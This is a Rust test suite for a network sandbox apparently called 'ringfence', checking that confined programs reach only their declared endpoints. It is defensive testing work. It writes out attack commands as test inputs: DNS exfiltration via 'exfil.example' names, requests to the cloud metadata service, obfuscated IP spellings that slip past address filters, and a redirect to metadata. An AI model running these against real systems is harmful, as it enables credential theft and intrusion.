//! What can be reached: the environment's own endpoints by name and port, and nothing else.

use crate::ground::scenario;
use crate::oracle::Oracle;
use crate::scene::{BINARY, Outcome, SECRET, Scene, eventually};
use crate::server::{Postgres, redis, visits};

/// What a program says of an address that is not there.
const UNREACHABLE: &[&str] = &[
    "unreachable",
    "refused",
    "Couldn't connect",
    "Failed to connect",
    "Could not connect",
    "ENETUNREACH",
    "ECONNREFUSED",
];

/// Scenario 1: the declared database just works, under its own name; its server sees the host as the client.
#[test]
fn s01_the_declared_database_works_by_name() {
    scenario(&["postgres"], |scene| {
        let server = Postgres::at(scene, "10.10.0.5", 5432);
        let ask = "PGCONNECT_TIMEOUT=5 psql -h db -p 5432 -U app -d app -Atc 'select 7700 + 31'";
        assert_eq!(scene.plain(ask).succeeded().stdout, "7731\n");
        let count = |log: &str| log.matches("connection received: host=10.10.0.5").count();
        let before = count(&server.log());
        assert_eq!(scene.inside(ask).succeeded().stdout, "7731\n");
        assert_eq!(count(&server.log()), before + 1, "{}", server.log());
        let by_setting = "PGCONNECT_TIMEOUT=5 psql \"$DB_URL\" -Atc 'select 7700 + 31'";
        assert_eq!(scene.inside(by_setting).succeeded().stdout, "7731\n");
    });
}

/// Scenario 2: prod's Redis on the host's loopback is not there.
#[test]
fn s02_a_port_of_the_hosts_loopback_is_refused() {
    scenario(&["redis"], |scene| {
        let _server = redis(scene, "127.0.0.1", 6391, SECRET);
        scene.hidden("redis-cli -h 127.0.0.1 -p 6391 get who", UNREACHABLE);
        let before = visits(scene, "127.0.0.1", 6391);
        scene.shows_nothing("redis-cli -h localhost -p 6391 get who", UNREACHABLE);
        scene.shows_nothing("redis-cli -h 10.20.0.5 -p 6391 get who", UNREACHABLE);
        assert_eq!(
            visits(scene, "127.0.0.1", 6391),
            before + 1,
            "only the one that counts"
        );
    });
}

/// Scenario 3: a declared host on another port is refused, under its name and its number.
#[test]
fn s03_another_port_of_a_declared_host_is_refused() {
    scenario(&["redis"], |scene| {
        let _dev = redis(scene, "10.10.0.5", 6379, "dev");
        let _prod = redis(scene, "10.10.0.5", 6391, SECRET);
        let own = "redis-cli -h 10.10.0.5 -p 6379 get who";
        assert_eq!(scene.inside(own).succeeded().stdout, "dev\n");
        for host in ["10.10.0.5", "db"] {
            scene.hidden(&format!("redis-cli -h {host} -p 6391 get who"), UNREACHABLE);
        }
        let given = "redis-cli -h $(getent hosts db | cut -d' ' -f1) -p 6391 get who";
        scene.shows_nothing(given, UNREACHABLE);
    });
}

/// What `curl` shows of `url`, and how long it took in milliseconds, at best.
fn fetched(run: impl Fn(&str) -> Outcome, url: &str) -> (Outcome, f64) {
    let script = format!("curl -sS -g -m 2 -w '\\n%{{time_total}}' '{url}'");
    let attempts: Vec<(Outcome, f64)> = (0..5)
        .map(|_| run(&script))
        .map(|outcome| {
            let seconds = outcome.stdout.lines().last().unwrap_or("9").parse();
            (outcome, seconds.unwrap_or(9.0) * 1000.0)
        })
        .collect();
    let best = attempts.into_iter().min_by(|a, b| a.1.total_cmp(&b.1));
    best.unwrap()
}

/// The address answers plainly; inside it is unreachable at once, and nobody came.
fn unreachable_at_once(scene: &Scene, address: &str, url: &str) {
    let oracle = Oracle::http(address);
    let (plain, _) = fetched(|script| scene.plain(script), url);
    assert!(plain.stdout.contains(SECRET), "{plain:?}");
    let before = oracle.visits();
    let (outcome, time_ms) = fetched(|script| scene.inside(script), url);
    assert!(!outcome.stdout.contains(SECRET), "{outcome:?}");
    outcome.failed(UNREACHABLE);
    assert!(time_ms < 50.0, "at once, not after {time_ms} ms");
    assert_eq!(oracle.visits(), before);
}

/// Scenario 4: the metadata service.
#[test]
fn s04_the_metadata_service_is_unreachable_at_once() {
    scenario(&["curl"], |scene| {
        let port = 80;
        let url = format!("http://169.254.169.254:{port}/");
        unreachable_at_once(scene, &format!("169.254.169.254:{port}"), &url);
    });
}

/// Scenario 5: the metadata service over IPv6.
#[test]
fn s05_the_metadata_service_is_unreachable_over_ipv6() {
    scenario(&["curl"], |scene| {
        let port = 80;
        let url = format!("http://[fd00:ec2::254]:{port}/");
        unreachable_at_once(scene, &format!("[fd00:ec2::254]:{port}"), &url);
    });
}

/// Prod's own address and one of the internet, which no setting of dev names.
#[test]
fn an_undeclared_address_is_unreachable() {
    scenario(&["curl"], |scene| {
        let port = 5432;
        for host in ["10.20.0.5", "192.0.2.1", "8.8.8.8"] {
            unreachable_at_once(
                scene,
                &format!("{host}:{port}"),
                &format!("http://{host}:{port}/"),
            );
        }
    });
}

/// Scenario 6: datagrams arrive nowhere.
#[test]
fn s06_datagrams_arrive_nowhere() {
    scenario(&["python3"], |scene| {
        let port = 5300;
        for host in ["127.0.0.1", "10.20.0.5", "10.10.0.5"] {
            let oracle = Oracle::udp(&format!("{host}:{port}"));
            let send = format!("/usr/bin/python3 attacks/network.py udp {host} {port}");
            let words = [UNREACHABLE, &["timed out"]].concat();
            let before = oracle.visits();
            scene.hidden(&send, &words);
            assert_eq!(oracle.visits(), before + 1, "only the control's");
        }
    });
}

/// Scenario 7: no echo request leaves.
#[test]
fn s07_ping_fails() {
    scenario(&["ping"], |scene| {
        let words = [UNREACHABLE, &["not permitted", "100% packet loss"]].concat();
        scene.repelled("ping -n -c1 -W1 192.0.2.1", &words);
    });
}

/// Scenario 8: a name that carries something out reaches no resolver, neither the host's nor one of the attacker's choice.
#[test]
fn s08_names_carry_nothing_out() {
    scenario(&["dig", "getent"], |scene| {
        let resolver = Oracle::dns();
        let asked = |word: &str| resolver.names().iter().any(|name| name.contains(word));
        let dig = |word: &str| {
            format!("dig +tries=1 +time=1 +noall +answer {word}.exfil.example @8.8.8.8")
        };
        scene.plain(&dig("plain-dig")).succeeded();
        scene
            .plain("getent ahostsv4 plain-libc.exfil.example")
            .succeeded();
        assert!(
            asked("plain-dig") && asked("plain-libc"),
            "{:?}",
            resolver.names()
        );
        scene.inside(&dig("secret-dig")).failed(&[
            "unreachable",
            "timed out",
            "no servers could be reached",
            "refused",
        ]);
        let timed = "start=$(date +%s%N); getent ahostsv4 secret-libc.exfil.example && echo FOUND; echo $((($(date +%s%N) - start) / 1000000))";
        let best_ms = (0..3).map(|_| scene.inside(timed)).map(|outcome| {
            assert!(!outcome.stdout.contains("FOUND"), "{outcome:?}");
            outcome.told(&["secret-libc.exfil.example"]);
            outcome.stdout.trim().parse::<u32>().unwrap()
        });
        let best_ms = best_ms.min().unwrap();
        assert!(
            best_ms < 100,
            "a name fails at once, not after {best_ms} ms"
        );
        let own = scene.inside("dig +tries=1 +time=1 secret-own.exfil.example");
        assert!(own.stdout.contains("NXDOMAIN"), "{own:?}");
        assert!(!asked("secret"), "{:?}", resolver.names());
    });
}

/// Scenario 38: a name that only prod declares is unknown, and the refusal says whose it is and how to allow it.
#[test]
fn s38_a_name_of_prod_is_unknown_and_logged() {
    scenario(&["dig", "getent"], |scene| {
        let resolver = Oracle::dns();
        let look = "getent hosts api.prod.internal";
        assert!(scene.plain(look).succeeded().stdout.contains("10.20.0.5"));
        let asked = resolver.visits();
        let outcome = scene.inside(look);
        assert_eq!(
            (outcome.code, outcome.stdout.as_str()),
            (Some(2), ""),
            "{outcome:?}"
        );
        outcome.told(&["api.prod.internal", "belongs to prod"]);
        let last = outcome.stderr.lines().last().unwrap();
        let summary = last.starts_with("ringfence: ") && last.contains(" refusal");
        assert!(summary && last.contains("api.prod.internal"), "{outcome:?}");
        let dig = scene.inside("dig +tries=1 +time=1 api.prod.internal");
        assert!(dig.stdout.contains("NXDOMAIN"), "{dig:?}");
        let own = scene.inside("dig +short +tries=1 +time=1 db").succeeded();
        assert!(
            own.stdout.starts_with("127.77."),
            "a declared name is known: {own:?}"
        );
        assert_eq!(resolver.visits(), asked, "{:?}", resolver.names());
    });
}

/// A balancer for dev's and prod's TLS at one address.
fn balancer(scene: &Scene) -> crate::scene::Running {
    let make = "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj /CN=x -keyout ../key -out ../cert -days 2";
    scene.plain(make).succeeded();
    let serve = "exec openssl s_server -accept 10.30.0.5:443 -cert ../cert -key ../key -www -quiet";
    let server = scene.spawn(&["sh", "-c", serve]);
    let ready = "curl -sk https://10.30.0.5/ -o /dev/null";
    eventually("TLS", || scene.plain(ready).code == Some(0));
    server
}

/// Scenario 39: behind an address that dev and prod share, the name in the handshake decides.
#[test]
fn s39_prods_name_in_a_handshake_is_reset() {
    scenario(&["curl", "openssl", "python3"], |scene| {
        let _server = balancer(scene);
        let own = "curl -ksS -m 5 -o /dev/null https://tls.dev.internal/";
        scene.plain(own).succeeded();
        scene.inside(own).succeeded();
        let other = "address=$(getent hosts tls.dev.internal | cut -d' ' -f1); \
             curl -ksS -m 5 -o /dev/null --resolve tls.prod.internal:443:$address https://tls.prod.internal/";
        let reset = &["reset", "SSL_ERROR_SYSCALL", "unexpected eof"];
        scene.plain(other).succeeded();
        scene
            .inside(other)
            .failed(reset)
            .told(&["tls.prod.internal", "belongs to prod"]);
        let handshake = "/usr/bin/python3 attacks/tls.py tls.dev.internal";
        assert_eq!(
            scene.inside(&format!("{handshake} plain")).stdout,
            "answered\n"
        );
        assert_eq!(
            scene.plain(&format!("{handshake} ech")).stdout,
            "answered\n"
        );
        scene
            .inside(&format!("{handshake} ech"))
            .failed(&["reset", "closed"]);
    });
}

/// The plan can be read without starting anything, and names what will be reachable.
#[test]
fn the_plan_is_explained_and_nothing_starts() {
    scenario(&[], |scene| {
        let outcome = scene.ringfence(&["run", "dev", "--explain", "--", "touch", "started"]);
        let told = format!("{}{}", outcome.stdout, outcome.stderr);
        assert!(!scene.path("started").exists());
        for word in ["db:5432", "10.10.0.5:6379", ":8081", ".env.prod"] {
            assert!(told.contains(word), "{word}: {outcome:?}");
        }
        assert!(!told.contains(SECRET) && !told.contains("pw@"), "{told}");
    });
}

/// Prod's addresses under other spellings, closed and while a run learns.
#[test]
fn no_spelling_of_an_address_leads_there() {
    scenario(&["curl", "python3"], |scene| {
        let prod = Oracle::http("10.20.0.5:5432");
        let local = Oracle::http("127.0.0.1:6391");
        let visits = || prod.visits() + local.visits();
        let python = "/usr/bin/python3 attacks/network.py";
        let mut attacks = vec![
            format!("{python} mapped 10.20.0.5 5432"),
            format!("{python} mapped 127.0.0.1 6391"),
            format!("{python} mapped 0.0.0.0 6391"),
            format!("{python} fast_open 10.20.0.5 5432"),
            format!("{python} fast_open 0.0.0.0 6391"),
        ];
        for address in [
            "0x0a140005:5432",
            "012.024.0.05:5432",
            "169082885:5432",
            "[::ffff:10.20.0.5]:5432",
            "0.0.0.0:6391",
            "0:6391",
            "127.1:6391",
            "[::ffff:127.0.0.1]:6391",
        ] {
            attacks.push(format!("curl -sS -g -m 2 http://{address}/"));
        }
        for attack in attacks {
            let before = visits();
            let control = scene.plain(&attack);
            assert!(control.stdout.contains(SECRET), "{attack}: {control:?}");
            assert!(visits() > before, "{attack}");
            for learn in [&[][..], &["--learn"]] {
                let before = visits();
                let words = [&["run", "dev"], learn, &["--", "sh", "-c", &attack]].concat();
                let outcome = scene.ringfence(&words);
                assert!(
                    !outcome.stdout.contains(SECRET),
                    "{attack} {learn:?}: {outcome:?}"
                );
                assert_eq!(visits(), before, "{attack} {learn:?}: {outcome:?}");
            }
        }
    });
}

/// A declared host sends the client to the metadata service: it goes there itself, and finds nothing, learning or not.
#[test]
fn a_redirect_leads_to_no_credentials() {
    scenario(&["curl", "python3"], |scene| {
        let metadata = Oracle::http("169.254.169.254:80");
        let serve = "exec /usr/bin/python3 attacks/network.py redirecting 10.10.0.5 6379 http://169.254.169.254/";
        let _server = scene.spawn(&["sh", "-c", serve]);
        let attack = "curl -sSL -m 3 http://10.10.0.5:6379/";
        eventually("the control", || {
            scene.plain(attack).stdout.contains(SECRET)
        });
        let before = metadata.visits();
        for learn in [&[][..], &["--learn"]] {
            let words = [&["run", "dev"], learn, &["--", "sh", "-c", attack]].concat();
            let outcome = scene.ringfence(&words).failed(UNREACHABLE);
            assert!(!outcome.stdout.contains(SECRET), "{outcome:?}");
        }
        assert_eq!(metadata.visits(), before);
    });
}

/// A program that is refused thousands of things is told of some, and the run ends as ever.
#[test]
fn a_flood_of_refusals_is_bounded() {
    scenario(&["python3"], |scene| {
        let outcome = scene
            .inside("/usr/bin/python3 attacks/network.py flood 4000")
            .succeeded();
        assert_eq!(outcome.stdout, "flooded\n");
        let lines = outcome.stderr.lines().count();
        assert!((500..1100).contains(&lines), "{lines} lines");
        let summed = outcome.stderr.lines().last().unwrap();
        assert!(summed.contains(" refusals: "), "{summed}");
    });
}

/// A program that holds the answerer's connections takes nothing from its endpoints.
#[test]
fn questions_do_not_use_up_connections() {
    scenario(&["python3"], |scene| {
        let _own = Oracle::http("10.10.0.5:6379");
        let ask = "/usr/bin/python3 attacks/network.py held 127.77.255.53 380 10.10.0.5 6379";
        let script = format!("ulimit -n 400; exec {BINARY} run dev -- {ask}");
        let outcome = scene.plain(&script);
        assert!(outcome.stdout.contains(SECRET), "{outcome:?}");
    });
}

/// A declared name is looked up for every connection, so that a fail-over is followed; where it leads to the metadata service, that is
/// refused.
#[test]
fn a_name_is_looked_up_for_every_connection() {
    scenario(&["root", "curl"], |scene| {
        let _first = Oracle::http("10.10.0.5:5432");
        let second = Oracle::http("10.30.0.6:5432");
        let metadata = Oracle::http("169.254.169.254:5432");
        let hosts = std::fs::read_to_string("/etc/hosts").unwrap();
        let step = |number: u32| {
            format!(
                "touch ready{number}; until test -e go{number}; do sleep 0.02; done; curl -sS -m 3 http://db:5432/ >out{number}"
            )
        };
        let script = format!("{}; {}; {}", step(1), step(2), step(3));
        let run = format!("{BINARY} run dev -- sh -c '{script}' 2>told");
        let mut run = scene.spawn(&["sh", "-c", &run]);
        for (number, address) in [(1, "10.10.0.5"), (2, "10.30.0.6"), (3, "169.254.169.254")] {
            eventually("a step", || scene.path(&format!("ready{number}")).exists());
            std::fs::write(
                "/etc/hosts",
                hosts.replace("10.10.0.5 db", &format!("{address} db")),
            )
            .unwrap();
            scene.write(&format!("go{number}"), "");
        }
        eventually("the end", || !run.lives());
        std::fs::write("/etc/hosts", hosts).unwrap();
        assert!(scene.read("out1").contains(SECRET));
        assert!(scene.read("out2").contains(SECRET) && second.visits() == 1);
        assert!(!scene.read("out3").contains(SECRET));
        assert_eq!(metadata.visits(), 0);
        assert!(
            scene.read("told").contains("db:5432"),
            "{}",
            scene.read("told")
        );
    });
}

/// Names below a declared one are not the declared one: they carry nothing out, whatever is asked of them.
#[test]
fn names_below_a_declared_one_carry_nothing_out() {
    scenario(&["dig"], |scene| {
        let resolver = Oracle::dns();
        let ask = |server: &str, kind: &str| {
            format!("dig +tries=1 +time=1 {kind} carried.tls.dev.internal {server}")
        };
        scene.plain(&ask("@8.8.8.8", "A")).succeeded();
        let asked = resolver.visits();
        assert!(asked > 0, "the control arrives");
        for kind in ["A", "AAAA", "TXT", "MX", "CNAME", "ANY", "A +tcp"] {
            let outcome = scene.inside(&ask("", kind));
            assert!(outcome.stdout.contains("NXDOMAIN"), "{kind}: {outcome:?}");
        }
        assert_eq!(resolver.visits(), asked, "{:?}", resolver.names());
    });
}
